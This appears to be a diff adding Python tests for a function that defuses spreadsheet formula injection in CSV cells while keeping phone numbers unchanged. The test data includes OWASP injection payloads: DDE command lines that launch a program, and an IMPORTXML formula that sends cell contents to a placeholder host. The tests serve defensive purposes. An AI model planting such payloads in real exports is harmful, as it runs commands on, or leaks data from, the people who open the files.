@@ -125,3 +125,65 @@ def test_the_invisible_characters_are_unicodes_format_control_and_separator_char
         if unicodedata.category(chr(code)) in categories
     }
     assert expected == INVISIBLE
+
+
+# --- the rule on single cells and rows -------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("+1 415 555 0100", "+1 415 555 0100"),
+        ("(415) 555-0100", "(415) 555-0100"),
+        ("+44 20 7946 0958", "+44 20 7946 0958"),
+        # Extensions and E.164: no formula can be built from them either.
+        ("+1-415-555-0164 ext. 43", "+1-415-555-0164 ext. 43"),
+        ("+1 415 555 0164 ext 43", "+1 415 555 0164 ext 43"),
+        ("+1 415 555 0164 x43", "+1 415 555 0164 x43"),
+        ("+1 415 555 0164 #43", "+1 415 555 0164 #43"),
+        ("+14155550164", "+14155550164"),
+        ("+14155550164 ext. 43", "+14155550164 ext. 43"),
+        ("+33 1/55.55.01.00", "+33 1/55.55.01.00"),
+        ("+14155550100 ::: +442079460958", "+14155550100 ::: +442079460958"),  # Google's list
+        ("+14155550100 ::: =1+1", "'+14155550100 ::: =1+1"),
+        # OWASP's CSV-injection payloads, and look-alikes of a phone number.
+        ("=1+2", "'=1+2"),
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+        (
+            '=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
+            '\'=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-1-1", "'-1-1"),
+        ("+1 415 555 0164 ext. A1", "'+1 415 555 0164 ext. A1"),
+        ("+1 415\t555", "'+1 415\t555"),
+        ("+1 415 555 0164\nx43", "'+1 415 555 0164\nx43"),
+        ("+", "'+"),
+        # Digits other than ASCII ones are no phone number: only 0-9 are.
+        ("+\u0664\u0664\u0662", "'+\u0664\u0664\u0662"),
+        ("+4\u00b2", "'+4\u00b2"),
+        ("-442079460958", "'-442079460958"),
+        ("Ada Lovelace", "Ada Lovelace"),
+        ("ada+news@example.com", "ada+news@example.com"),
+        ("李小龙", "李小龙"),
+        ("", ""),
+    ],
+)
+def test_neutralise_defuses_formulas_but_keeps_phone_numbers(cell, expected):
+    assert neutralise(cell) == expected
+
+
+def test_neutralise_row_neutralises_every_cell_and_copies_only_rows_that_change():
+    plain = ("Ada Lovelace", "ada@example.com", "+1 415 555 0100", "+14155550100")
+    assert neutralise_row(plain) is plain
+    risky = ("=1+2", "ada@example.com", "+1 415 555 0100", "@SUM(A1)")
+    assert neutralise_row(risky) == [neutralise(cell) for cell in risky]
+    assert neutralise_row(risky) == ["'=1+2", "ada@example.com", "+1 415 555 0100", "'@SUM(A1)"]
